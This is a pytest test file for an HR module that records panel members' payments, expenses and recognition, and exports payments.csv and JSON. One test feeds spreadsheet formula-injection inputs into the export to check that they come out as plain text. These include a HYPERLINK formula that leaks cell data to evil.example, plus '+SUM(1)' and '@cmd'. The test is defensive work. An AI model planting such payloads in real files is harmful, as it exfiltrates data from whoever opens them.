"""HR's record of thanks and payments, the recognition record, payments.csv: through the services, as people act."""

from __future__ import annotations

import csv
import io
import json
import stat
from datetime import date, timedelta
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from panel_tui.domain.errors import InvalidValue, NotAllowed, PanelError
from panel_tui.domain.reciprocity import Choice, PaymentStatus
from panel_tui.export import ExportOptions
from panel_tui.locations import default_export_folder
from panel_tui.services import ChangedElsewhere
from panel_tui.services.reciprocity import EXPORTED_PAYMENTS

if TYPE_CHECKING:  # the fixtures come from tests/services/conftest.py
    from conftest import Panel


def _interviewed(round_: Panel) -> Panel:
    """Ann and the chair score C01 and submit; the chair opens agreement, agrees and signs off."""
    assert round_.cand is not None
    for who in (round_.ann, round_.chair):
        svc = round_.as_(who)
        svc.confirm_briefing()
        for q in round_.questions:
            svc.record_score(who.id, round_.cand.id, q.id, 3)
        svc.submit_sheet(who.id, round_.cand.id)
    chair = round_.svc
    chair.open_reconciliation(round_.cand.id, {round_.bob.id: "Bob was ill"})
    for q in round_.questions:
        chair.set_agreed_score(round_.cand.id, q.id, 3, "As the panel said.")
    chair.sign_off(round_.cand.id, "panel consensus")
    return round_


@pytest.fixture
def done(round_: Panel) -> Panel:
    return _interviewed(round_)


def test_hr_records_an_offer_a_choice_time_expenses_and_payment(done: Panel) -> None:
    hr = done.as_(done.hr)
    ann = done.ann.id
    hr.set_offer(ann, "£20.00", "hour", "3:00", "Travel and lunch, with receipts", "01/06/2027")
    hr.record_choice(ann, "a lower amount", "£30")
    hr.set_time_given(ann, preparation="1:00", interviews="90", agreement="30m")
    bus = hr.add_expense(ann, "Bus fare", "4.50", receipt_seen=True)
    lunch = hr.add_expense(ann, "Lunch", "6.5")
    hr.set_payment(ann, "paid", "2026-06-20")
    hr.set_advice_offered(ann, "30 May 2027")
    line = hr.reciprocity_of(ann)
    assert line.offer_pence == 6000
    assert line.time.total == 180 and not any(p.measured for p in line.time.parts)
    assert line.worth_pence == 6000 and line.due_pence == 3000
    assert line.expenses_pence == 450 and [e.what for e in line.not_receipted] == ["Lunch"]
    assert line.kept.paid_on == date(2026, 6, 20) and line.kept.advice_offered_on == date(2027, 5, 30)
    kept = done.raw().reciprocity[0]
    assert kept.member_id == ann and kept.offered_on == date(2027, 6, 1)
    hr.mark_receipt(ann, lunch.id)
    hr.remove_expense(ann, bus.id)
    assert hr.reciprocity_of(ann).expenses_pence == 650
    actions = [e.action for e in done.events() if e.record == f"reciprocity:{ann}"]
    assert actions == [
        "set the offer of thanks", "recorded their choice about the offer", "changed the time given", "added an expense",
        "added an expense", "changed the payment", "recorded when benefits advice was offered", "marked a receipt seen",
        "removed an expense",
    ]
    assert all(e.actor_id == done.hr.id and e.member_id == ann for e in done.events() if e.record == f"reciprocity:{ann}")


def test_hr_s_book_lists_the_panel_with_totals(done: Panel) -> None:
    hr = done.as_(done.hr)
    hr.set_offer(done.ann.id, "20", "hour", "2:00")
    hr.record_choice(done.ann.id, "accept")
    hr.set_time_given(done.ann.id, preparation=60, interviews=60, agreement=0)
    hr.set_offer(done.bob.id, "25", "session")
    hr.record_choice(done.bob.id, "paid to a charity", charity="Shelter")
    hr.add_expense(done.bob.id, "Taxi", "12", receipt_seen=True)
    hr.add_expense(done.bob.id, "Snacks", "3")
    book = hr.reciprocity_book()
    assert [line.name for line in book.lines] == ["Ann Member", "Bob Volunteer", "Chair Person"]  # HR is not listed
    assert book.totals.due == 4000 + 2500
    assert book.totals.to_charity == 2500
    assert book.totals.expenses == 1200 and book.totals.not_receipted == 300


def test_time_is_pre_filled_from_the_session_s_timestamps_and_a_blank_puts_it_back(done: Panel) -> None:
    hr = done.as_(done.hr)
    measured = hr.reciprocity_of(done.ann.id).time
    assert all(p.measured for p in measured.parts)
    hr.set_time_given(done.ann.id, interviews="2h")
    assert [p.measured for p in hr.reciprocity_of(done.ann.id).time.parts] == [True, False, True]
    assert hr.reciprocity_of(done.ann.id).time.minutes("interview_minutes") == 120
    hr.set_time_given(done.ann.id, interviews="")
    assert hr.reciprocity_of(done.ann.id).time == measured


@pytest.mark.parametrize(
    ("act", "says"),
    [
        (lambda hr, m: hr.set_offer(m, "-5", "hour", "60"), "less than nothing"),
        (lambda hr, m: hr.set_offer(m, "12.345", "hour", "60"), "2 numbers after the point"),
        (lambda hr, m: hr.set_offer(m, "12", "hour", "60", offered_on="06/30/2027"), "30/06/2027"),
        (lambda hr, m: hr.set_offer(m, "12", "fortnight", "60"), "per hour or per session"),
        (lambda hr, m: hr.set_offer(m, "12", "hour", ""), "time you expect"),
        (lambda hr, m: hr.record_choice(m, "a lower amount", "£100"), "less than the offer of £40.00"),
        (lambda hr, m: hr.record_choice(m, "paid to a charity", charity=" "), "charity"),
        (lambda hr, m: hr.record_choice(m, "maybe"), "Choose one of"),
        (lambda hr, m: hr.add_expense(m, "Bus", "-1"), "less than nothing"),
        (lambda hr, m: hr.add_expense(m, " ", "1"), "what the expense was for"),
        (lambda hr, m: hr.set_time_given(m, interviews="-3"), "less than nothing"),
        (lambda hr, m: hr.set_payment(m, "paid", "31/02/2027"), "30/06/2027"),
        (lambda hr, m: hr.set_payment(m, "paid", date.today() + timedelta(days=2)), "future"),
        (lambda hr, m: hr.set_advice_offered(m, "next week"), "30/06/2027"),
        (lambda hr, m: hr.remove_expense(m, "nope"), "not there"),
    ],
)
def test_bad_input_gets_a_plain_message_and_changes_nothing(done: Panel, act, says: str) -> None:  # type: ignore[no-untyped-def]
    hr = done.as_(done.hr)
    hr.set_offer(done.ann.id, "20", "hour", "2:00")
    before = done.on_disk()
    with pytest.raises(PanelError, match=says):
        act(hr, done.ann.id)
    assert done.on_disk() == before


def test_a_choice_needs_an_offer_first(done: Panel) -> None:
    with pytest.raises(InvalidValue, match="offer first"):
        done.as_(done.hr).record_choice(done.ann.id, "accept")


def test_paid_with_no_date_is_paid_today_and_other_statuses_clear_it(done: Panel) -> None:
    hr = done.as_(done.hr)
    assert hr.set_payment(done.ann.id, "paid").paid_on == date.today()
    after = hr.set_payment(done.ann.id, PaymentStatus.TO_PAY, "2027-01-01")
    assert after.paid_on is None


def test_a_form_never_overwrites_a_newer_change(done: Panel) -> None:
    hr = done.as_(done.hr)
    opened = hr.reciprocity_of(done.ann.id).version
    hr.set_offer(done.ann.id, "20", "hour", "2:00", version=opened)
    before = done.on_disk()
    with pytest.raises(ChangedElsewhere):
        hr.set_offer(done.ann.id, "30", "hour", "2:00", version=opened)
    assert done.on_disk() == before
    hr.record_choice(done.ann.id, Choice.ACCEPT, version=hr.reciprocity_of(done.ann.id).version)


def test_only_hr_keeps_it_and_a_member_reads_only_their_own(done: Panel) -> None:
    hr = done.as_(done.hr)
    hr.set_offer(done.ann.id, "20", "hour", "2:00")
    before = done.on_disk()
    for who in (done.chair, done.ann, done.bob):
        with pytest.raises(NotAllowed, match="Only HR"):
            done.as_(who).set_offer(done.ann.id, "99", "hour", "2:00")
        with pytest.raises(NotAllowed):
            done.as_(who).reciprocity_book()
        with pytest.raises(NotAllowed):
            done.as_(who).export_payments()
    assert done.on_disk() == before
    assert done.as_(done.ann).reciprocity_of(done.ann.id).offer_pence == 4000
    for who in (done.chair, done.bob):
        with pytest.raises(NotAllowed, match="only your own"):
            done.as_(who).reciprocity_of(done.ann.id)


def test_recognition_record_what_they_did_and_who_may_read_it(done: Panel) -> None:
    record = done.as_(done.ann).recognition_record(done.ann.id)
    assert record.name == "Ann Member" and record.role == "Panel member" and record.group == "Member"
    assert record.interviews == 1 and record.candidates_agreed == 1
    assert not record.confirmed
    chair_written = done.as_(done.chair).recognition_record(done.chair.id)
    assert {q.used for q in chair_written.questions} == {True, False}  # two agreed, one never agreed
    done.as_(done.hr).recognition_record(done.ann.id)
    done.as_(done.chair).recognition_record(done.ann.id)
    with pytest.raises(NotAllowed, match="only your own recognition"):
        done.as_(done.bob).recognition_record(done.ann.id)


def test_the_chair_confirms_a_recognition_record(done: Panel) -> None:
    before = done.on_disk()
    for who in (done.ann, done.hr):
        with pytest.raises(NotAllowed, match="Only the chair"):
            done.as_(who).confirm_recognition(done.ann.id)
    with pytest.raises(NotAllowed):
        done.tool().confirm_recognition(done.ann.id)
    assert done.on_disk() == before
    done.svc.confirm_recognition(done.ann.id)
    record = done.as_(done.ann).recognition_record(done.ann.id)
    assert record.confirmed and record.confirmed_by == "Chair Person" and record.confirmed_on == date.today()
    event = done.events()[-1]
    assert event.action == "confirmed a recognition record" and "rate_pence" not in json.dumps(event.after)


def test_the_printed_recognition_record_holds_no_money(done: Panel, tmp_path: Path) -> None:
    hr = done.as_(done.hr)
    hr.set_offer(done.ann.id, "17.35", "hour", "2:00")
    hr.add_expense(done.ann.id, "Bus fare", "4.99", receipt_seen=True)
    done.svc.confirm_recognition(done.ann.id)
    path = done.as_(done.ann).print_recognition(done.ann.id)
    assert path.parent == default_export_folder(done.path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    page = path.read_text()
    assert "Ann Member" in page and "Confirmed by Chair Person" in page
    assert "£" not in page and "17.35" not in page and "4.99" not in page and "Bus fare" not in page
    assert "<script" not in page.lower()
    with pytest.raises(NotAllowed):
        done.as_(done.bob).print_recognition(done.ann.id, tmp_path)


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))


def test_payments_csv_for_finance(done: Panel) -> None:
    hr = done.as_(done.hr)
    hr.set_offer(done.ann.id, "20", "hour", "2:00")
    hr.record_choice(done.ann.id, "vouchers")
    hr.set_time_given(done.ann.id, preparation=30, interviews=60, agreement=30)
    hr.add_expense(done.ann.id, "Bus fare", "4.50", receipt_seen=True)
    hr.add_expense(done.ann.id, "Lunch", "6.00")
    hr.set_payment(done.ann.id, "paid", "2026-06-20")
    hr.set_offer(done.bob.id, "25", "session")
    hr.record_choice(done.bob.id, "paid to a charity", charity="Shelter")
    written = hr.export_payments()
    assert written.path == default_export_folder(done.path) / "payments.csv"
    assert stat.S_IMODE(written.path.stat().st_mode) == 0o600
    assert (written.rows, written.not_receipted) == (2, 1)
    rows = {row["Name"]: row for row in _rows(written.path)}
    assert set(rows) == {"Ann Member", "Bob Volunteer"}  # the chair has no offer
    ann = rows["Ann Member"]
    assert (ann["Hours given"], ann["Amount due"], ann["Paid as"], ann["Expenses with receipts"]) == ("2.00", "40.00", "vouchers", "4.50")
    assert ann["Expenses without receipts (not paid)"] == "Lunch 6.00"
    assert (ann["Payment status"], ann["Date paid"]) == ("paid", "2026-06-20")
    bob = rows["Bob Volunteer"]
    assert (bob["Amount due"], bob["Paid as"], bob["Charity"], bob["Choice"]) == ("25.00", "to a charity", "Shelter", "paid to a charity")
    event = done.events()[-1]
    assert event.action == EXPORTED_PAYMENTS and event.actor_id == done.hr.id


def test_payments_csv_names_open_as_text_never_as_formulas(done: Panel, tmp_path: Path) -> None:
    hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    done.svc.edit_member(done.ann.id, name=hostile)
    hr = done.as_(done.hr)
    hr.set_offer(done.ann.id, "20", "hour", "2:00")
    hr.record_choice(done.ann.id, "paid to a charity", charity="+SUM(1)")
    hr.add_expense(done.ann.id, "@cmd", "1")
    written = hr.export_payments(tmp_path / "finance")
    cells = [c for row in csv.reader(io.StringIO(written.path.read_bytes().decode("utf-8-sig"))) for c in row]
    assert "'" + hostile in cells and "'+SUM(1)" in cells and "'@cmd 1.00" in cells
    assert not [c for c in cells if c and c[0] in "=+-@"]


def test_payments_csv_needs_an_offer(done: Panel) -> None:
    with pytest.raises(NotAllowed, match="no written offer|No panel member"):
        done.as_(done.hr).export_payments()


def _exported_json(panel: Panel, who, out: Path, **options: object) -> str:  # type: ignore[no-untyped-def]
    result = panel.as_(who).export(out, ["json"], ExportOptions(**options))  # type: ignore[arg-type]
    return next(p for p in result.files if p.suffix == ".json").read_text()


def test_the_json_export_carries_reciprocity_only_for_hr(done: Panel, tmp_path: Path) -> None:
    hr = done.as_(done.hr)
    hr.set_offer(done.ann.id, "17.35", "hour", "2:00", "Travel")
    hr.add_expense(done.ann.id, "Bus fare to Harbour", "4.99")
    by_hr = json.loads(_exported_json(done, done.hr, tmp_path / "hr"))
    assert [r["rate_pence"] for r in by_hr["reciprocity"]] == [1735]
    by_chair = _exported_json(done, done.chair, tmp_path / "chair")
    assert json.loads(by_chair)["reciprocity"] == []
    assert "1735" not in by_chair and "Bus fare to Harbour" not in by_chair
    subject = _exported_json(done, done.hr, tmp_path / "sar", candidate="C01")
    assert json.loads(subject)["reciprocity"] == [] and "Bus fare to Harbour" not in subject
    pseudo = _exported_json(done, done.hr, tmp_path / "pseudo", pseudonymise=True)
    assert "Ann Member" not in pseudo and [r["rate_pence"] for r in json.loads(pseudo)["reciprocity"]] == [1735]
